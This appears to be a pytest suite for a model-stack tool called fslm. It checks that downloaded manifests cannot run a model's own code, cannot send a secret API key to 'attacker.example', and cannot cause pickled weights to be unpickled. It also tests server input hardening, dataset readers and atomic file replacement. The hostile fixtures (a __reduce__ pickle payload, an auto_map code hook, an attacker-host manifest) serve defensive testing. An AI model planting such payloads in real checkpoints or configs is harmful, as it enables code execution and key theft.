"""Issue 17: an untrusted stack.yaml runs nothing and sends no secret; the server and the readers refuse bad input
clearly; `fslm lm-eval` accepts batch_size as documented; an interrupted adapter replacement is undone."""

from __future__ import annotations

import json
import logging
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from conftest import make_adapter, make_benchmark_dir, make_eval_stack, make_model_dir
from fake_backend import fake_stack, running
from typer.testing import CliRunner

from fslm.cli import app
from fslm.config import load_config
from fslm.data import read_dataset
from fslm.errors import FslmError
from fslm.stack import Stack
from fslm.trust import Trust
from fslm.web.options import ServeOptions

ROOT = Path(__file__).resolve().parents[1]
ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}


# --- 1. the manifest is untrusted ----------------------------------------------------------------------------


@pytest.fixture
def evil_model(tmp_path, models_root) -> tuple[Path, Path]:
    """A model folder whose config names Python code of its own (auto_map); the code leaves a marker if it runs."""
    marker = tmp_path / "code-ran"
    model = tmp_path / "evil-model"
    shutil.copytree(make_model_dir(models_root, "llama", chat=True), model)
    (model / "configuration_evil.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
        "from transformers import LlamaConfig\n\n\nclass EvilConfig(LlamaConfig):\n    pass\n"
    )
    (model / "modeling_evil.py").write_text(
        "from transformers import LlamaForCausalLM\n\nfrom .configuration_evil import EvilConfig\n\n\n"
        "class EvilForCausalLM(LlamaForCausalLM):\n    config_class = EvilConfig\n"
    )  # so that, with consent, the model loads and runs (its own code), not only its config
    config = json.loads((model / "config.json").read_text())
    config["auto_map"] = {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
    }
    (model / "config.json").write_text(json.dumps(config))
    return model, marker


def _evil_stack(tmp_path: Path, model: Path) -> Path:
    from fslm.steps.init import InitOptions, init

    directory = tmp_path / "downloaded"
    init(directory, InitOptions(base=str(model)))
    path = directory / "stack.yaml"
    path.write_text(path.read_text().replace("trust_remote_code: false", "trust_remote_code: true"))
    return directory


def test_remote_code_in_a_manifest_alone_runs_nothing(tmp_path, evil_model):
    model, marker = evil_model
    directory = _evil_stack(tmp_path, model)
    line = next(i for i, t in enumerate((directory / "stack.yaml").read_text().splitlines(), 1) if "trust_remote" in t)
    data = tmp_path / "d.jsonl"
    data.write_text('{"instruction": "Say hi.", "output": "hi"}\n')
    distill = ["distill", str(data), "--stack", str(directory), "--out", str(tmp_path / "o.jsonl")]
    # run and serve load through Stack.load; distill's teacher through the model loader itself.
    for command in (["run", str(directory), "hi"], ["serve", str(directory)], distill):
        r = CliRunner().invoke(app, command)
        assert r.exit_code == 2, (command, r.output)
        assert f"stack.yaml:{line}: base.trust_remote_code" in r.output and "--trust-remote-code" in r.output
        assert "Traceback" not in r.output
    with pytest.raises(FslmError, match="--trust-remote-code"):
        Stack.load(directory)
    with pytest.raises(FslmError, match="trust_remote_code"):  # the loader refuses too, whoever calls it
        from fslm import models

        config = load_config(directory)
        models.load_base(models.resolve(config.base.model, directory), config.base)
    assert not marker.exists()


def test_remote_code_runs_with_the_flag(tmp_path, evil_model):
    """The flag is the user's consent: then (and only then) the model's own code runs."""
    model, marker = evil_model
    directory = _evil_stack(tmp_path, model)
    env = {**ENV, "HF_MODULES_CACHE": str(tmp_path / "hf-modules"), "PYTHONPATH": str(ROOT)}
    cmd = [sys.executable, "-m", "fslm", "run", str(directory), "hi", "--max-new-tokens", "2", "--trust-remote-code"]
    proc = subprocess.run(cmd + ["--json"], capture_output=True, text=True, env=env, timeout=600, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]  # it ran to the end, not just far enough to import the code
    assert "--trust-remote-code" not in proc.stderr, proc.stderr[-2000:]
    assert marker.read_text() == "ran"
    trace = json.loads(proc.stdout)
    assert [s["name"] for s in trace["stages"]] == load_config(directory).stage_names
    assert all(0 < s["output_tokens"] <= 2 for s in trace["stages"])


@pytest.fixture
def remote_stack(tmp_path, tiny_llama) -> Path:
    """A downloaded manifest that sends stages to another machine with the value of $SECRET_TOKEN as its key."""
    from fslm.steps.init import InitOptions, init

    directory = tmp_path / "remote"
    init(directory, InitOptions(base=str(tiny_llama)))
    config = load_config(directory)
    config.base.backend = "openai"
    from fslm.config import ServerSettings, save_config

    config.base.server = ServerSettings(
        url="http://attacker.example:9999/v1", api_key_env="SECRET_TOKEN", base_model="m", max_retries=0
    )
    save_config(config, directory)
    return directory


def test_a_manifest_cannot_send_prompts_or_keys_elsewhere(remote_stack, monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
    monkeypatch.delenv("FSLM_TRUSTED_SERVERS", raising=False)
    monkeypatch.delenv("FSLM_TRUSTED_KEY_ENVS", raising=False)
    sent = _capture_requests(monkeypatch)
    r = CliRunner().invoke(app, ["run", str(remote_stack), "hi"])
    assert r.exit_code == 2 and "Traceback" not in r.output
    out = " ".join(r.output.split())
    assert re.search(r"stack\.yaml:\d+: base\.server\.url: .*http://attacker\.example:9999/v1", out)
    assert "--allow-server http://attacker.example:9999/v1" in out and "FSLM_TRUSTED_SERVERS" in out
    assert re.search(r"stack\.yaml:\d+: base\.server\.api_key_env: .*\$SECRET_TOKEN", out)
    assert "--api-key-env SECRET_TOKEN" in out and "hunter2" not in out
    with pytest.raises(FslmError, match="allow-server"):
        Stack.load(remote_stack)
    # A server alone confirmed is not enough: the key variable is the manifest's choice too.
    with pytest.raises(FslmError, match="api_key_env"):
        Stack.load(remote_stack, trust=Trust(servers=("http://attacker.example:9999",)))
    # torch ignores base.server: nothing is sent, nothing to confirm.
    assert Stack.load(remote_stack, backend="torch").backend.name == "torch"
    assert sent == []


def _capture_requests(monkeypatch) -> list[tuple[str, str]]:
    """Stand-in for the network: record (url, key) of every completion request the openai backend would send."""
    from fslm.backends.openai import Generated, OpenAIClient

    sent: list[tuple[str, str]] = []

    def one(self, model, prompt, settings):
        sent.append((self.url, self.client.api_key))
        return Generated("ok", 1, 1, "stop")

    monkeypatch.setattr(OpenAIClient, "_one_completion", one)
    return sent


def test_flags_and_the_users_environment_allow_them(remote_stack, monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
    monkeypatch.setenv("MY_KEY", "mine")
    monkeypatch.delenv("FSLM_TRUSTED_SERVERS", raising=False)
    monkeypatch.delenv("FSLM_TRUSTED_KEY_ENVS", raising=False)
    sent = _capture_requests(monkeypatch)
    flags = ["--allow-server", "http://attacker.example:9999/v1", "--api-key-env", "MY_KEY", "--json"]
    r = CliRunner().invoke(app, ["run", str(remote_stack), "hi", *flags])
    assert r.exit_code == 0, r.output
    assert set(sent) == {("http://attacker.example:9999/v1", "mine")}  # the user's key, not the manifest's pick
    # The consent ended with that command.
    with pytest.raises(FslmError, match="allow-server"):
        Stack.load(remote_stack)
    # The user's own environment: a trusted origin and a trusted key variable.
    monkeypatch.setenv("FSLM_TRUSTED_SERVERS", "https://other.example, http://attacker.example:9999")
    monkeypatch.setenv("FSLM_TRUSTED_KEY_ENVS", "SECRET_TOKEN")
    stack = Stack.load(remote_stack)
    assert stack.backend.client.client.api_key == "hunter2"
    # A different port is a different server.
    monkeypatch.setenv("FSLM_TRUSTED_SERVERS", "http://attacker.example:9998")
    with pytest.raises(FslmError, match="allow-server"):
        Stack.load(remote_stack)


def test_trust_checks_urls_by_host_not_by_text():
    from fslm.trust import is_loopback_url

    assert is_loopback_url("http://127.0.0.1:8000/v1") and is_loopback_url("http://[::1]:1/v1")
    assert is_loopback_url("http://localhost/v1") and is_loopback_url("http://127.9.9.9/")
    for url in ("http://127.0.0.1.evil.example/v1", "http://localhost@evil.example/v1", "http://10.0.0.1/", "nonsense"):
        assert not is_loopback_url(url), url
    trust = Trust(servers=("https://gpu.example",))
    assert trust.allows_server("https://gpu.example/v1") and trust.allows_server("https://gpu.example:443/x")
    assert not trust.allows_server("http://gpu.example/v1") and not trust.allows_server("https://gpu.example.evil/v1")


class _Payload:
    """Pickled into a .bin: unpickling it writes the marker file (what a hostile checkpoint could do instead)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "unpickled"))


def _pickle_weights(safetensors_file: Path, bin_file: Path, marker: Path) -> None:
    import torch
    from safetensors.torch import load_file

    torch.save({**load_file(safetensors_file), "payload": _Payload(marker)}, bin_file)


def test_weights_are_read_only_from_safetensors(tmp_path, models_root):
    """A pickled pytorch_model.bin / adapter_model.bin is never unpickled: refused alone, ignored beside safetensors."""
    from fslm.steps.init import InitOptions, init

    marker = tmp_path / "unpickled"
    tiny = make_model_dir(models_root, "llama", chat=True)
    both = tmp_path / "both"  # safetensors and a pickle: the pickle is ignored
    shutil.copytree(tiny, both)
    _pickle_weights(both / "model.safetensors", both / "pytorch_model.bin", marker)
    pickled = tmp_path / "pickled"  # only the pickle: refused
    shutil.copytree(both, pickled)
    (pickled / "model.safetensors").unlink()
    init(tmp_path / "a", InitOptions(base=str(pickled)))
    init(tmp_path / "b", InitOptions(base=str(both)))
    adapter = make_adapter(tiny, "llama", tmp_path / "b" / "adapters" / "intent", seed=1)
    r = CliRunner().invoke(app, ["run", str(tmp_path / "a"), "hi", "--max-new-tokens", "1"])
    assert r.exit_code == 2 and "no file named model.safetensors" in " ".join(r.output.split()), r.output
    assert Stack.load(tmp_path / "b").backend.has_adapter("intent") and not marker.exists()

    _pickle_weights(adapter / "adapter_model.safetensors", adapter / "adapter_model.bin", marker)
    assert Stack.load(tmp_path / "b").backend.has_adapter("intent")  # beside safetensors: ignored
    (adapter / "adapter_model.safetensors").unlink()
    r = CliRunner().invoke(app, ["run", str(tmp_path / "b"), "hi", "--max-new-tokens", "1"])
    out = " ".join(r.output.split()).replace(" ", "")
    assert r.exit_code == 2 and "Traceback" not in r.output, r.output
    assert f"{adapter}/adapter_model.safetensors:missing;adapterweightsarereadonlyfromsafetensors" in out
    assert not marker.exists()


# --- 2. the server --------------------------------------------------------------------------------------------

CHAT = {"messages": [{"role": "user", "content": "hi"}]}


@pytest.fixture
def fake():
    return fake_stack()


@pytest.fixture
def url(fake):
    with running(fake, ServeOptions(max_tokens=64, timeout=30)) as u:
        yield u


def test_post_bodies_must_be_json(url):
    body = json.dumps(CHAT)
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None):
        headers = {"content-type": kind} if kind else {}
        for path in ("/v1/chat/completions", "/v1/stack/run", "/v1/stack/stream"):
            r = httpx.post(url + path, content=body, headers=headers)
            assert r.status_code == 415, (kind, path, r.text)
            assert r.json()["error"]["code"] == "unsupported_media_type"
    r = httpx.post(
        f"{url}/v1/chat/completions", content=body, headers={"content-type": "Application/JSON; charset=utf-8"}
    )
    assert r.status_code == 200


def test_host_header_must_name_this_machine(fake, url):
    port = url.rsplit(":", 1)[1]
    for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.nip.io", "localhost.evil.example", "10.0.0.1"):
        for method, path in (("POST", "/v1/chat/completions"), ("GET", "/health"), ("GET", "/")):
            r = httpx.request(method, url + path, json=CHAT, headers={"host": host})
            assert r.status_code == 421, (host, path, r.text)
            assert r.json()["error"]["code"] == "untrusted_host"
    for host in (f"localhost:{port}", f"LOCALHOST:{port}", "127.0.0.1", f"[::1]:{port}", "localhost."):
        assert httpx.post(f"{url}/v1/chat/completions", json=CHAT, headers={"host": host}).status_code == 200, host
    with running(fake, ServeOptions(allowed_hosts=("127.0.0.1", "box.lan"))) as u:
        assert httpx.get(f"{u}/health", headers={"host": "box.lan:80"}).status_code == 200
        assert httpx.get(f"{u}/health", headers={"host": "localhost"}).status_code == 421
    with running(fake, ServeOptions(allowed_hosts=("*",))) as u:
        assert httpx.get(f"{u}/health", headers={"host": "anything.example"}).status_code == 200


def test_cli_serve_allows_its_bind_address_and_given_hosts():
    from fslm.web.options import default_allowed_hosts

    assert default_allowed_hosts("127.0.0.1") == ("127.0.0.1", "localhost", "::1")
    assert default_allowed_hosts("192.168.1.5")[-1] == "192.168.1.5"
    assert default_allowed_hosts("0.0.0.0") == ("127.0.0.1", "localhost", "::1")
    r = CliRunner().invoke(app, ["serve", "--help"])
    assert "--allowed-host" in r.output and "--trust-remote-code" in r.output and "--allow-server" in r.output


def _is_400(r: httpx.Response) -> None:
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["type"] == "invalid_request_error" and err["message"]


def test_issue_probes_are_400_not_500(url):
    json_header = {"content-type": "application/json"}
    deep = b'{"messages": [{"role": "user", "content": "hi"}], "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    _is_400(httpx.post(f"{url}/v1/chat/completions", content=deep, headers=json_header))
    surrogate = b'{"messages": [{"role": "user", "content": "hi"}], "model": "\\ud800"}'
    _is_400(httpx.post(f"{url}/v1/chat/completions", content=surrogate, headers=json_header))
    for max_tokens in ("9" * 5000, "²", "1" * 13):
        _is_400(httpx.get(f"{url}/v1/stack/stream", params={"instruction": "hi", "max_tokens": max_tokens}))
    huge = b'{"instruction": "hi", "max_tokens": ' + b"9" * 5000 + b"}"
    _is_400(httpx.post(f"{url}/v1/stack/run", content=huge, headers=json_header))


def test_a_500_names_nothing_and_the_log_has_the_details(fake, url, caplog, monkeypatch):
    fake.backend.fail = RuntimeError("/home/alice/secret/weights.py: disk on fire")
    with caplog.at_level(logging.ERROR):
        r = httpx.post(f"{url}/v1/chat/completions", json=CHAT)
        assert r.status_code == 500 and r.json()["error"]["code"] == "internal_error"
        assert "secret" not in r.text and "RuntimeError" not in r.text
        streamed = httpx.post(f"{url}/v1/chat/completions", json={**CHAT, "stream": True}).text
        events = httpx.get(f"{url}/v1/stack/stream", params={"instruction": "hi"}).text
        assert "error" in streamed and "error" in events
        assert "secret" not in streamed + events
    assert "disk on fire" in caplog.text  # the operator sees it
    fake.backend.fail = None
    # An exception in the HTTP layer itself: the same generic body.
    import fslm.web.app

    monkeypatch.setattr(fslm.web.app, "usage", lambda *t: 1 / 0)
    r = httpx.post(f"{url}/v1/chat/completions", json=CHAT)
    assert r.status_code == 500 and "ZeroDivision" not in r.text and r.json()["error"]["message"]


def test_n_stop_temperature_top_p(fake, url):
    names = fake.config.stage_names
    r = httpx.post(f"{url}/v1/chat/completions", json={**CHAT, "n": 3}).json()
    assert [c["index"] for c in r["choices"]] == [0, 1, 2]
    assert all(c["message"]["content"] == c["fslm_trace"]["answer"] for c in r["choices"])
    assert r["usage"]["completion_tokens"] == sum(
        s["output_tokens"] for c in r["choices"] for s in c["fslm_trace"]["stages"]
    )

    plain = httpx.post(f"{url}/v1/chat/completions", json=CHAT).json()["choices"][0]["message"]["content"]
    assert plain.endswith("STOP tail")
    cut = httpx.post(f"{url}/v1/chat/completions", json={**CHAT, "stop": "STOP"}).json()
    assert cut["choices"][0]["message"]["content"] == plain.removesuffix(" STOP tail")
    assert cut["choices"][0]["finish_reason"] == "stop"
    assert all("STOP" in s["output"] for s in cut["fslm_trace"]["stages"][:-1])  # only the answer stage is cut
    with httpx.stream("POST", f"{url}/v1/chat/completions", json={**CHAT, "stop": ["STOP"], "stream": True}) as s:
        chunks = [json.loads(line[6:]) for line in s.iter_lines() if line.startswith("data: {")]
    assert "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks) == plain.removesuffix(" STOP tail")

    fake.backend.calls.clear()
    httpx.post(f"{url}/v1/chat/completions", json={**CHAT, "temperature": 0.7, "top_p": 0.9})
    used = {label: settings for label, _, settings in fake.backend.calls}
    assert (used[names[-1]].temperature, used[names[-1]].top_p) == (0.7, 0.9)
    for name in names[:-1]:  # earlier stages decode as the manifest says
        assert (used[name].temperature, used[name].top_p) == (0.0, 1.0)

    for bad in ({"n": 0}, {"n": 9}, {"n": True}, {"n": 2, "stream": True}, {"temperature": 2.5},
                {"temperature": "hot"}, {"top_p": 0}, {"top_p": 1.5}, {"stop": ""}, {"stop": ["a"] * 5},
                {"stop": [1]}, {"stop": ["\ud800"]}):  # fmt: skip
        body = json.dumps({**CHAT, **bad})  # ASCII-escaped: a lone surrogate travels as \ud800
        r = httpx.post(f"{url}/v1/chat/completions", content=body, headers={"content-type": "application/json"})
        assert r.status_code == 400, (bad, r.text)
        assert r.json()["error"]["param"] == next(iter(bad)) if "stream" not in bad else "n"


def test_a_client_that_leaves_cancels_its_job(fake, url):
    names = fake.config.stage_names
    fake.backend.gate.clear()
    with pytest.raises(httpx.ReadTimeout):
        httpx.post(f"{url}/v1/chat/completions", json=CHAT, timeout=1.0)
    assert fake.backend.entered.wait(10)
    deadline = time.monotonic() + 10
    while httpx.get(f"{url}/health").json()["queued"] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert httpx.get(f"{url}/health").json()["queued"] == 0  # dropped while its first stage was still running
    fake.backend.gate.set()
    # One worker runs every batch in turn: a request sent now finishes after anything the dropped job could still
    # run, so once it is answered, every call the dropped job made is in the log.
    later = httpx.post(f"{url}/v1/chat/completions", json=CHAT, timeout=30)
    assert later.status_code == 200, later.text
    calls = [(label, rows) for label, rows, _ in fake.backend.calls]
    assert calls == [(names[0], 1), *[(name, 1) for name in names]]  # no later stage ran for the dropped job


# --- 3. the readers -------------------------------------------------------------------------------------------


def test_surrogates_are_bad_rows_with_file_and_line(tmp_path):
    jsonl = tmp_path / "s.jsonl"
    jsonl.write_text('{"instruction": "fine"}\n{"instruction": "bad \\ud800 here"}\n{"instruction": "also fine"}\n')
    seen = []
    ds = read_dataset(jsonl, on_bad=seen.append)
    assert [r.instruction for r in ds.records] == ["fine", "also fine"]
    assert [str(b) for b in seen] == [f"{jsonl}:2: not valid UTF-8 text (U+D800 at character 5: a byte that is not "
                                      "UTF-8 or a lone surrogate escape like \\ud800)"]  # fmt: skip
    listed = tmp_path / "s.json"
    listed.write_text('[\n {"instruction": "fine"},\n {"instruction": "x", "output": "\\udfff"}\n]\n')
    ds = read_dataset(listed)
    assert [(b.line, "U+DFFF" in b.reason) for b in ds.bad] == [(3, True)]
    with pytest.raises(FslmError, match=r"s\.json:3: not valid UTF-8"):
        read_dataset(listed, strict=True)


def test_deep_nesting_and_huge_numbers_are_bad_rows(tmp_path):
    deep = "[" * 50_000 + "]" * 50_000
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text(
        f'{{"instruction": "one"}}\n{{"instruction": "x", "extra": {deep}}}\n{{"instruction": "y", "n": {"7" * 5000}}}\n'
        '{"instruction": "two"}\n'
    )
    ds = read_dataset(jsonl)
    assert [r.instruction for r in ds.records] == ["one", "two"]
    assert [(b.line, b.reason.split(":")[0]) for b in ds.bad] == [
        (2, "JSON nested too deeply"),
        (3, "JSON value cannot be read"),
    ]
    listed = tmp_path / "d.json"
    listed.write_text(f'[\n{{"instruction": "one"}},\n{deep},\n{"7" * 5000}, {{"instruction": "y", "z": [{deep}]}},\n'
                      '{"instruction": "two"}\n]')  # fmt: skip
    ds = read_dataset(listed)
    assert [r.instruction for r in ds.records] == ["one", "two"] and [r.line for r in ds.records] == [2, 5]
    assert [b.line for b in ds.bad] == [3, 4, 4]


def test_json_list_reads_in_linear_time(tmp_path):
    """20,000 rows of 500 bytes, one per line: the old reader counted lines from the start for every row (~100 GB of
    scanning, half a minute or more); linear reading takes well under a second here."""
    rows = [{"instruction": f"Question {i}?", "input": "", "output": "x" * 450} for i in range(20_000)]
    path = tmp_path / "big.json"
    path.write_text("[\n" + ",\n".join(json.dumps(r) for r in rows) + "\n]\n")
    start = time.perf_counter()
    ds = read_dataset(path)
    seconds = time.perf_counter() - start
    assert len(ds.records) == 20_000 and ds.records[-1].line == 20_001
    assert seconds < 10, f"{seconds:.1f} s"


def test_csv_unterminated_quote_and_oversized_field(tmp_path):
    import csv

    path = tmp_path / "q.csv"
    path.write_text('instruction,output\nfine,1\n"broken,2\nswallowed,3\nswallowed too,4\n')
    with pytest.raises(FslmError, match=r"q\.csv:3: a quoted field opened on this line is never closed"):
        read_dataset(path)
    big = "y" * (csv.field_size_limit() + 10)
    path = tmp_path / "big.csv"
    path.write_text(f'instruction,output\nfine,1\nhuge,"multi\nline {big}"\nafter,3\n"multi\nline",4\nlast,5\n')
    ds = read_dataset(path)
    assert [(r.instruction, r.line) for r in ds.records] == [("fine", 2), ("after", 5), ("multi\nline", 6), ("last", 8)]
    assert [b.line for b in ds.bad] == [3] and "larger than the csv module's limit" in ds.bad[0].reason
    assert csv.field_size_limit() == len(big) - 10  # restored


def test_bom_is_accepted_in_jsonl_and_json_lists(tmp_path):
    bom = b"\xef\xbb\xbf"
    jsonl = tmp_path / "b.jsonl"
    jsonl.write_bytes(bom + b'{"instruction": "first"}\n{"instruction": "second"}\n')
    assert [r.instruction for r in read_dataset(jsonl).records] == ["first", "second"]
    listed = tmp_path / "b.json"
    listed.write_bytes(bom + b'[{"instruction": "first"}, {"instruction": "second"}]')
    ds = read_dataset(listed)
    assert [r.instruction for r in ds.records] == ["first", "second"] and not ds.bad


# --- 4. fslm lm-eval with batch_size in model_args -------------------------------------------------------------


@pytest.fixture(scope="module")
def eval_stack(tmp_path_factory) -> Path:
    return make_eval_stack(tmp_path_factory.mktemp("lmeval"), adapters=("answer",))


def test_batch_size_in_model_args_wins_over_lm_evals_default(eval_stack):
    from fslm.steps.evaluate.lm_eval_model import FslmLM

    lm_eval_adds = {"batch_size": 1, "max_batch_size": None, "device": None}  # what lm-eval 0.4.13 passes
    lm = FslmLM.create_from_arg_string(f"stack={eval_stack},system=base,batch_size=8", lm_eval_adds)
    assert lm.fixed_batch == 8
    lm = FslmLM.create_from_arg_obj({"stack": str(eval_stack), "system": "base"}, {"batch_size": 4})
    assert lm.fixed_batch == 4


def test_fslm_lm_eval_as_docs_show(eval_stack, tmp_path):
    """Every `fslm lm-eval` command of docs/eval.md, run as written (DIR and the data path pointed at test data):
    each scores exactly its tasks on items of the given data directory, with the system its model_args name (the
    logged ARC-Easy scores are what `FslmLM` built from the same model_args gives in this process)."""
    from lm_eval.utils import simple_parse_args_string

    from fslm.steps.evaluate.lm_eval_model import FslmLM

    data = make_benchmark_dir(tmp_path / "data")
    text = (ROOT / "docs" / "eval.md").read_text()
    commands = re.findall(r"^fslm lm-eval .*$", text.replace("\\\n", " "), re.M)
    assert any("batch_size=8" in c for c in commands), commands
    item_text = {"fslm_arc_easy": "What is easy item", "fslm_mmlu": "Which is"}  # make_benchmark_dir's questions
    arc_scores = []
    for i, command in enumerate(commands):
        argv = shlex.split(command.replace("DIR", str(eval_stack)).replace("../shared/data", str(data)))
        out = tmp_path / f"out{i}"
        cmd = [sys.executable, "-m", "fslm", *argv[1:], "--limit", "3", "--output_path", str(out), "--log_samples"]
        proc = subprocess.run(cmd, capture_output=True, text=True, env={**ENV, "PYTHONPATH": str(ROOT)}, timeout=900,
                              cwd=tmp_path)  # fmt: skip
        assert proc.returncode == 0, (command, proc.stderr[-3000:])
        (result_file,) = out.rglob("results_*.json")
        result = json.loads(result_file.read_text())
        tasks = argv[argv.index("--tasks") + 1].split(",")
        model_args = argv[argv.index("--model_args") + 1]
        assert sorted(result["results"]) == sorted(tasks), command
        assert result["config"]["model_args"] == simple_parse_args_string(model_args)
        lm = FslmLM.create_from_arg_string(model_args, {"batch_size": 1})  # as lm-eval builds it
        for task in tasks:
            assert result["n-samples"][task]["effective"] == 3, (command, task)
            (samples_file,) = out.rglob(f"samples_{task}_*.jsonl")
            samples = sorted((json.loads(x) for x in samples_file.read_text().splitlines()), key=lambda s: s["doc_id"])
            logged = [[float(r[0][0]) for r in s["resps"]] for s in samples]
            for sample, scores in zip(samples, logged, strict=True):
                requests = [_instance(*a.values()) for a in sample["arguments"].values()]
                assert item_text[task] in requests[0].args[0], (task, requests[0].args[0])  # the given data_dir
                if task == "fslm_arc_easy":  # (one task is enough to show whose scores they are)
                    assert scores == pytest.approx([s for s, _ in lm.loglikelihood(requests)], rel=1e-5, abs=1e-4)
            if task == "fslm_arc_easy":
                arc_scores.append(logged)
        lm.close()
    assert len(arc_scores) == 2 and arc_scores[0] != arc_scores[1]  # another system, other scores


def _instance(*args):
    from lm_eval.api.instance import Instance

    return Instance(request_type="loglikelihood", doc={}, arguments=args, idx=0)


# --- 5. an interrupted atomic_replace_dir -----------------------------------------------------------------------


def test_a_kill_between_the_renames_is_undone_on_the_next_start(tmp_path, tiny_llama):
    """Kill a process inside atomic_replace_dir right after its first rename; the next load finds the old adapter."""
    from fslm.steps.init import InitOptions, init

    directory = tmp_path / "s"
    init(directory, InitOptions(base=str(tiny_llama)))
    target = directory / "adapters" / "answer"
    make_adapter(tiny_llama, "llama", target, seed=1)
    staging = directory / "adapters" / ".answer.new"
    make_adapter(tiny_llama, "llama", staging, seed=2)
    code = (
        "import os, sys\nfrom fslm import files\nreal = os.replace\n"
        "def replace(a, b):\n    real(a, b)\n    os._exit(9)\n"
        "os.replace = replace\nfiles.atomic_replace_dir(sys.argv[1], sys.argv[2])\n"
    )
    env = {**ENV, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", code, str(staging), str(target)], env=env, timeout=120)
    assert proc.returncode == 9 and not target.exists() and (target.parent / ".answer.old").is_dir()
    stack = Stack.load(directory)
    assert stack.stage_adapter("answer") == "answer"  # not the bare base
    assert (target / "adapter_config.json").is_file() and not (target.parent / ".answer.old").exists()


def test_staged_files_are_fsynced_before_the_rename(tmp_path, monkeypatch):
    from fslm import files

    staging = tmp_path / ".t.tmp"
    (staging / "sub").mkdir(parents=True)
    for name in ("a.bin", "sub/b.bin"):
        (staging / name).write_bytes(b"x" * 10)
    synced: list[str] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd: int) -> None:
        synced.append(os.readlink(f"/proc/self/fd/{fd}"))
        real_fsync(fd)

    def replace(a, b):
        synced.append(f"rename {Path(a).name}")
        real_replace(a, b)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    files.atomic_replace_dir(staging, tmp_path / "t")
    rename = synced.index("rename .t.tmp")
    assert {str(staging / "a.bin"), str(staging / "sub" / "b.bin")} <= set(synced[:rename])
    assert (tmp_path / "t" / "sub" / "b.bin").read_bytes() == b"x" * 10


def test_recover_dir_leaves_a_complete_directory_alone(tmp_path):
    from fslm.files import recover_dir

    (tmp_path / "t").mkdir()
    (tmp_path / ".t.old").mkdir()
    assert not recover_dir(tmp_path / "t") and (tmp_path / ".t.old").exists()
    assert not recover_dir(tmp_path / "missing")
